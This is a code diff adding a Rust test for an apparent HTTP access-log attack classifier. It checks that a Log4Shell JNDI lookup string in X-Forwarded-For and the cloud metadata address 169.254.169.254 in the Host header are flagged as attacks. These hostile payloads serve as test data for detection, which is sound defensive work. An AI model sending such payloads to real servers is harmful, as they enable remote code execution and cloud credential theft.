@@ -171,3 +171,24 @@ proptest! {
         }
     }
 }
+
+#[test]
+fn headers_that_the_format_logs_are_judged_by_their_names() {
+    let format: Format = r#"%h %t "%r" %>s "%{Host}i" "%{X-Forwarded-For}i" "%{Server}o""#.parse().unwrap();
+    let line = |host: &str, forwarded: &str| {
+        format!(
+            r#"192.0.2.7 [16/Nov/2026:08:00:25 +0000] "GET / HTTP/1.1" 200 "{host}" "{forwarded}" "${{jndi:ldap://x/a}}""#
+        )
+    };
+    let judged = |line: String| {
+        let attack = CLASSIFIER.classify(format.parse(line.as_bytes()).access().unwrap());
+        attack.map(|attack| (attack.findings[0].rule.clone(), attack.findings[0].parameter.clone()))
+    };
+    let found = |rule: &str, header: &str| Some((rule.to_owned(), Some(header.to_owned())));
+    assert_eq!(judged(line("shop.example", "203.0.113.9")), None);
+    assert_eq!(
+        judged(line("shop.example", "${jndi:ldap://x.example/a}")),
+        found("log4shell-lookup", "X-Forwarded-For")
+    );
+    assert_eq!(judged(line("169.254.169.254", "203.0.113.9")), found("ssrf-metadata", "Host"));
+}
